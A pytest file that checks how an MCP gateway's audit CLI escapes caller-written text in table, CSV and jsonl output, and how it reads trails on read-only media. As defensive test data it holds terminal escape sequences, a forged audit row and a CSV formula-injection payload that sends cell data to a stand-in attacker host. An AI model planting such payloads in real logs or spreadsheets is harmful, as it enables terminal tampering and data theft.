"""`mcp-gateway audit` given what callers and devices wrote: the table cannot act on the terminal or
forge a row, csv cannot run a formula in a spreadsheet, jsonl keeps the text exact; and a closed trail
copied onto read-only media reads (docs/governance-audit.md, docs/cli.md)."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any, NoReturn

import orjson
import pytest
from mcp import MCPError

from gateway.app import GatewayServer
from gateway.config import AuditConfig
from gateway.policy.audit import AuditTrail, DecisionRecord
from tests.conftest import GatewayFactory
from tests.integration.test_audit_outcomes import POLICY, VISITOR, caller, tokens
from tests.support.gateway_process import run_cli

pytestmark = pytest.mark.filterwarnings("ignore::mcp.shared.exceptions.MCPDeprecationWarning")

REPO = Path(__file__).resolve().parents[2]
CLEARS_THE_SCREEN = "stop\x1b[2J\x1b[31mHIDDEN\x07"
FORGES_A_ROW = "stop\n2026-01-01 00:00:00.000+00:00  9  token:agent  streamable-http  away  stop  allow  ok"
NOT_PRINTED = ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\x7f")
"""ESC, BEL, CR, CSI (C1), RIGHT-TO-LEFT OVERRIDE, DEL: none may reach the terminal from a cell."""


def table_lines(out: str, records: int) -> list[str]:
    """The table's lines, checked to be a header and one line per record with nothing that does not print."""
    for char in NOT_PRINTED:
        assert char not in out, (char, out)
    lines = out.splitlines()
    assert len(lines) == 1 + records, out
    return lines[1:]


async def test_a_name_a_caller_sends_cannot_act_on_the_terminal(
    gateway_factory: GatewayFactory, tmp_path: Path
) -> None:
    # A caller may send any tool name; the gateway records it as the tool of the deny.
    gateway: GatewayServer = await gateway_factory(
        auth=tokens(), policy=POLICY, audit={"path": str(tmp_path / "audit.db")}, slots={"declared": {"away": {}}}
    )
    async with caller(f"{gateway.url}/away/mcp", VISITOR) as visitor:
        for name in (CLEARS_THE_SCREEN, FORGES_A_ROW):
            with pytest.raises(MCPError):
                await visitor.call_tool(name, {})
    code, out, err = await run_cli("audit", "--path", str(tmp_path / "audit.db"), "--format", "jsonl")
    assert code == 0, err
    assert [orjson.loads(line)["tool"] for line in out.splitlines()] == [CLEARS_THE_SCREEN, FORGES_A_ROW]
    code, out, err = await run_cli("audit", "--path", str(tmp_path / "audit.db"))
    assert code == 0, err
    first, second = table_lines(out, 2)
    assert ' "stop\\u001b[2J\\u001b[31mHIDDEN\\u0007" ' in first and " deny " in first
    # Cut to the column's 40 characters as it shows them, escapes included.
    assert '  "stop\\n2026-01-01 00:00:00.000+00:00  9…  deny  ' in second


def write_trail(path: Path, records: list[DecisionRecord], results: dict[int, tuple[Any, ...]] = {}) -> list[int]:  # noqa: B006
    """`records` through the gateway's own writer; `results` by index: (status, latency_ms, error[, after
    the cancel: (status, error)])."""

    async def go() -> list[int]:
        trail = AuditTrail.open(AuditConfig(path=str(path)))
        await trail.start()
        ids = [await trail.decision(record) for record in records]
        for index, (status, latency_ms, error, *after) in results.items():
            trail.result(ids[index], status, latency_ms, error=error)
            if after:
                trail.answered_after_cancel(ids[index], *after[0])
        await trail.close()
        return ids

    return asyncio.run(go())


def decision(**fields: Any) -> DecisionRecord:
    common: dict[str, Any] = {
        "principal": {"token:agent"},
        "transport": "streamable-http",
        "slot": "pump-1",
        "resource": "/l2/pump-1",
        "capability": "tool.control",
        "effect": "allow",
        "tool": "set_speed",
        "rules": ["assign[0]"],
    }
    return DecisionRecord(**{**common, **fields})


def audit(*argv: str, prefix: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    """The real command in a process of its own, as an operator's shell runs it."""
    done = subprocess.run(
        [*prefix, sys.executable, "-m", "gateway.cli", "audit", *argv],
        capture_output=True,
        timeout=30,
        check=False,
        cwd=REPO,
    )
    # Decoded as written: text mode would turn a carriage return into a newline.
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())


def test_every_text_column_of_the_table_is_escaped(tmp_path: Path) -> None:
    trail = tmp_path / "audit.db"
    write_trail(
        trail,
        [
            decision(
                principal={"user:ann\x1b]0;owned\x07"},
                slot="pump\u202e1-",
                tool="set\rspeed",
                rules=["assign[0]\x9b"],
            ),
            decision(),
        ],
        {1: ("cancelled", 5.0, None, ("tool-error", "x\x1b\n"))},
    )
    done = audit("--path", str(trail))
    assert done.returncode == 0, done.stderr
    first, second = table_lines(done.stdout, 2)
    assert "user:ann\\u001b]0;owned\\u0007" in first
    assert '"pump\\u202e1-"' in first and '"set\\rspeed"' in first and "assign[0]\\u009b" in first
    assert "  cancelled, then tool-error: x\\u001b\\n  " in second


def test_csv_marks_a_formula_as_text_and_jsonl_keeps_it(tmp_path: Path) -> None:
    trail = tmp_path / "audit.db"
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"help")'
    write_trail(
        trail,
        [
            decision(tool=formula, reason="+1+1", client_id="@SUM(1)", time_ms=-1000),
            decision(tool="-2", slot="\tpump", trace_id="'quoted", reason="\r=1"),
        ],
        {0: ("tool-error", -2.5, "-1+1")},
    )
    done = audit("--path", str(trail), "--format", "csv")
    assert done.returncode == 0, done.stderr
    first, second = csv.DictReader(io.StringIO(done.stdout, newline=""))
    assert (first["tool"], first["reason"], first["client_id"], first["error"]) == (
        "'" + formula,
        "'+1+1",
        "'@SUM(1)",
        "'-1+1",
    )
    assert (second["tool"], second["slot"], second["trace_id"], second["reason"]) == (
        "'-2",
        "'\tpump",
        "''quoted",
        "'\\r=1",  # what does not print is escaped, as in the table
    )
    # Numbers stay numbers, a negative one too; JSON text and plain words are as stored.
    assert (first["time_ms"], first["latency_ms"], first["id"]) == ("-1000", "-2.5", "1")
    assert (first["principal"], first["effect"], second["tool"].removeprefix("'")) == ('["token:agent"]', "allow", "-2")
    done = audit("--path", str(trail), "--format", "jsonl")
    records = [orjson.loads(line) for line in done.stdout.splitlines()]
    assert [record["tool"] for record in records] == [formula, "-2"]
    assert (records[0]["reason"], records[1]["trace_id"], records[1]["reason"]) == ("+1+1", "'quoted", "\r=1")


def read_only(media: Path) -> tuple[str, ...] | None:
    """A command prefix under which `media` is read-only to the reader, as on a read-only card: a
    read-only bind mount in a user namespace (works for root too), else, for a user other than root,
    the directory's mode 0555 (root passes it); None when neither can be had."""
    mount = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c")
    script = 'mount --bind -o ro "$1" "$1" && shift && exec "$@"'
    prefix = (*mount, script, "sh", str(media))
    if shutil.which("unshare"):
        probe = subprocess.run([*prefix, "true"], capture_output=True, timeout=30, check=False)
        if probe.returncode == 0:
            return prefix
    if os.geteuid() != 0:
        media.chmod(0o555)
        return ()
    return None


def no_read_only_media() -> NoReturn:
    """Skipped on a developer's machine without user namespaces; a failure in CI (`.ci/run` sets CI),
    where skipping would hide what the test checks."""
    reason = "no read-only directory to be had: no user namespace, and root passes mode 0555"
    if os.environ.get("CI"):
        pytest.fail(reason)
    pytest.skip(reason)


@pytest.fixture
def media(tmp_path: Path) -> Any:
    folder = tmp_path / "media"
    folder.mkdir()
    yield folder
    folder.chmod(0o755)


def test_a_closed_trail_on_read_only_media_is_read(tmp_path: Path, media: Path) -> None:
    trail = tmp_path / "audit.db"
    write_trail(trail, [decision(), decision(effect="deny", rules=["deny[0]"])])
    assert not Path(f"{trail}-wal").exists()
    shutil.copy(trail, media / "audit.db")
    prefix = read_only(media)
    if prefix is None:
        no_read_only_media()
    for format_ in ("jsonl", "csv", "table"):
        done = audit("--path", str(media / "audit.db"), "--format", format_, prefix=prefix)
        assert done.returncode == 0, done.stderr
        assert len(done.stdout.splitlines()) == (2 if format_ == "jsonl" else 3)
    assert sorted(path.name for path in media.iterdir()) == ["audit.db"]  # nothing written beside it


def test_a_trail_with_its_log_on_read_only_media_is_never_read_without_it(tmp_path: Path, media: Path) -> None:
    """A -wal beside the file holds records the file lacks: reading the file alone would drop them."""
    trail = tmp_path / "audit.db"
    write_trail(trail, [decision(), decision()])

    async def copy_while_open() -> None:
        writer = AuditTrail.open(AuditConfig(path=str(trail)))
        await writer.start()
        await writer.decision(decision(effect="deny", rules=["deny[0]"]))
        for suffix in ("", "-wal"):
            shutil.copy(f"{trail}{suffix}", media / f"audit.db{suffix}")
        await writer.close()

    asyncio.run(copy_while_open())
    prefix = read_only(media)
    if prefix is None:
        no_read_only_media()
    done = audit("--path", str(media / "audit.db"), "--format", "jsonl", prefix=prefix)
    assert done.returncode == 2 and done.stdout == ""
    assert "audit.db-wal lies beside it: copy the trail with its -wal file to a writable directory" in done.stderr
